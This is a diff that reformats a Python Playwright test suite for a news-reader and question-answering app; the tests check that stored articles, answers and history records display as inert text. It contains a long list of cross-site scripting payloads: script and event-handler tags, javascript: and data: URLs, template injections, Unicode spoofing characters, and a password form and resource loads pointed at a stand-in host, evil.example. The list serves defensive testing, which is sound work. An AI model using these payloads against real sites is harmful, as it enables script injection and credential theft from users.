@@ -9,30 +9,74 @@ from rag.app.history import Chats
 
 OUT = "http://evil.example/x"
 PAYLOADS = (
-    "<script>window.pwned=1</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<img src=x onerror=window.pwned=1>",
-    f"<img src={OUT}.png>", "<svg onload=window.pwned=1>", "<svg><script>window.pwned=1</script></svg>",
-    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>", f"<iframe src={OUT}></iframe>",
-    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", f"<form action={OUT}><input name=password><button>Sign in</button></form>",
-    f"<style>@import '{OUT}.css';</style>", "<style>.sheet{display:none}</style>", f"<div style=\"background:url({OUT}.png)\">",
-    f"<link rel=stylesheet href={OUT}.css>", f"<meta http-equiv=refresh content='0;url={OUT}'>", f"<base href={OUT}/>",
-    f"<object data={OUT}></object>", f"<embed src={OUT}>", f"<video src={OUT} autoplay></video>", f"<audio src={OUT} autoplay>",
-    "<body onload=window.pwned=1>", "<details open ontoggle=window.pwned=1>", "<input autofocus onfocus=window.pwned=1>",
-    "<a href=javascript:window.pwned=1>click</a>", "<a href='data:text/html,<script>opener.pwned=1</script>'>x</a>",
-    "<math><mtext></p><style><img src=x onerror=window.pwned=1>", "<template><script>window.pwned=1</script></template>",
-    "</textarea><script>window.pwned=1</script>", "</title><script>window.pwned=1</script>", "</script><script>window.pwned=1</script>",
-    "\"><script>window.pwned=1</script>", "' onmouseover='window.pwned=1", "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
-    f"![logo]({OUT}.png)", f"![logo][1] [1]: {OUT}.png", f"[click here]({OUT})", "[click](javascript:window.pwned=1)", f"<{OUT}>", OUT,
-    "https://evil.example/?q=secret", "www.evil.example", "mailto:a@evil.example", f"[![x]({OUT}.png)]({OUT})", "**bold** _it_ `code` # head",
-    "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "`${window.pwned=1}`", "{{#each value}}x{{/each}}", "@children",
-    "<%= window.pwned=1 %>", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;img src=x onerror=window.pwned=1&#62;", "\\u003cscript\\u003e",
-    "abc\u202egnp.exe\u202c def", "\u2066hidden\u2069 \u200bzero\u200bwidth", "a" * 3000, "\U000e0041\U000e0042 tags", "é" * 20 + "\u0301" * 200,
+    "<script>window.pwned=1</script>",
+    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=window.pwned=1>",
+    f"<img src={OUT}.png>",
+    "<svg onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    f"<iframe src={OUT}></iframe>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    f"<form action={OUT}><input name=password><button>Sign in</button></form>",
+    f"<style>@import '{OUT}.css';</style>",
+    "<style>.sheet{display:none}</style>",
+    f'<div style="background:url({OUT}.png)">',
+    f"<link rel=stylesheet href={OUT}.css>",
+    f"<meta http-equiv=refresh content='0;url={OUT}'>",
+    f"<base href={OUT}/>",
+    f"<object data={OUT}></object>",
+    f"<embed src={OUT}>",
+    f"<video src={OUT} autoplay></video>",
+    f"<audio src={OUT} autoplay>",
+    "<body onload=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<a href=javascript:window.pwned=1>click</a>",
+    "<a href='data:text/html,<script>opener.pwned=1</script>'>x</a>",
+    "<math><mtext></p><style><img src=x onerror=window.pwned=1>",
+    "<template><script>window.pwned=1</script></template>",
+    "</textarea><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</script><script>window.pwned=1</script>",
+    '"><script>window.pwned=1</script>',
+    "' onmouseover='window.pwned=1",
+    "javascript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
+    f"![logo]({OUT}.png)",
+    f"![logo][1] [1]: {OUT}.png",
+    f"[click here]({OUT})",
+    "[click](javascript:window.pwned=1)",
+    f"<{OUT}>",
+    OUT,
+    "https://evil.example/?q=secret",
+    "www.evil.example",
+    "mailto:a@evil.example",
+    f"[![x]({OUT}.png)]({OUT})",
+    "**bold** _it_ `code` # head",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "${window.pwned=1}",
+    "`${window.pwned=1}`",
+    "{{#each value}}x{{/each}}",
+    "@children",
+    "<%= window.pwned=1 %>",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#60;img src=x onerror=window.pwned=1&#62;",
+    "\\u003cscript\\u003e",
+    "abc\u202egnp.exe\u202c def",
+    "\u2066hidden\u2069 \u200bzero\u200bwidth",
+    "a" * 3000,
+    "\U000e0041\U000e0042 tags",
+    "é" * 20 + "\u0301" * 200,
     "[1] Source: [CITATION: fake] [^1]",
-)  # fmt: skip
+)
 FORBIDDEN = "script,img,svg,iframe,form,style,link,meta,base,object,embed,video,audio,a,template,math"
 
 
 def story(n: int, payload: str) -> str:
-    return f"Story{n}: {payload}\n\nThe harbour master of town{n} wrote {payload} on the wall, witnesses said on Monday.\n"
+    return (
+        f"Story{n}: {payload}\n\nThe harbour master of town{n} wrote {payload} on the wall, witnesses said on Monday.\n"
+    )
 
 
 ALL = " ".join(" ".join(story(n, payload) for n, payload in enumerate(PAYLOADS)).split())
@@ -82,7 +126,9 @@ def test_titles_file_names_and_texts_of_articles_are_text(opened, served):
         opened.locator(".reader .file").filter(has_text=file[:2]).wait_for()
         assert opened.locator(".story").text_content() == article.text
         assert opened.locator(".reader .file").text_content() == file
-    assert opened.evaluate("document.querySelector('.reader').scrollWidth <= document.querySelector('.reader').clientWidth")
+    assert opened.evaluate(
+        "document.querySelector('.reader').scrollWidth <= document.querySelector('.reader').clientWidth"
+    )
 
 
 def test_questions_and_answers_are_text(opened, served):
@@ -105,7 +151,7 @@ def test_every_field_of_a_kept_record_is_text(opened, served):
         conversation = chats.add(reader, conversation, poisoned(payload)).conversation
     chats.close()
     opened.reload()
-    opened.locator(".folio").filter(has_text="article").wait_for()
+    opened.locator(".folio").filter(has_text="article").wait_for(state="attached")
     opened.get_by_role("tab", name="History").click()
     opened.locator(f".conversation[data-id='{conversation}'] .source").click()
     turns = opened.locator(".turn")
@@ -117,18 +163,44 @@ def test_every_field_of_a_kept_record_is_text(opened, served):
         opened.keyboard.press("Shift+Tab")
         opened.keyboard.press("Tab")
         opened.locator(".card").filter(has_text=PAYLOADS[n]).wait_for()
-    assert opened.evaluate("document.querySelector('.scroll').scrollWidth <= document.querySelector('.scroll').clientWidth")
+    assert opened.evaluate(
+        "document.querySelector('.scroll').scrollWidth <= document.querySelector('.scroll').clientWidth"
+    )
 
 
 def poisoned(text: str) -> dict:
     """A view in which every text is `text`."""
     known = {"file": text, "title": text, "publisher": text, "published": text}
-    citation = {**known, "number": 1, "sha256": "0", "start": 0, "end": 1, "quote": text, "published_from": text, "notes": [text], "also_in": [known]}
+    citation = {
+        **known,
+        "number": 1,
+        "sha256": "0",
+        "start": 0,
+        "end": 1,
+        "quote": text,
+        "published_from": text,
+        "notes": [text],
+        "also_in": [known],
+    }
     record = {
-        "schema": "dateline.answer/1", "id": None, "question": text, "abstained": False, "reason": None, "confidence": 0.5, "text": text,
-        "interpreted": {"question": f"{text}?", "since": None, "until": text, "notes": [text]}, "notes": [text],
-        "claims": [{"text": text, "start": 0, "end": 1, "support": kind, "citations": [1]} for kind in ("supported", "partial", "unsupported")],
-        "citations": [citation], "conflicts": [{"about": text, "sides": [{"value": text, "citations": [1]}] * 2}], "passages": [],
-        "synthesizer": text, "timings_ms": {"total": 1.0}, "settings_sha": "0",
-    }  # fmt: skip
+        "schema": "dateline.answer/1",
+        "id": None,
+        "question": text,
+        "abstained": False,
+        "reason": None,
+        "confidence": 0.5,
+        "text": text,
+        "interpreted": {"question": f"{text}?", "since": None, "until": text, "notes": [text]},
+        "notes": [text],
+        "claims": [
+            {"text": text, "start": 0, "end": 1, "support": kind, "citations": [1]}
+            for kind in ("supported", "partial", "unsupported")
+        ],
+        "citations": [citation],
+        "conflicts": [{"about": text, "sides": [{"value": text, "citations": [1]}] * 2}],
+        "passages": [],
+        "synthesizer": text,
+        "timings_ms": {"total": 1.0},
+        "settings_sha": "0",
+    }
     return {"record": record, "asked": {}, "closest": [], "read": {"passages": 1, "articles": 1}}
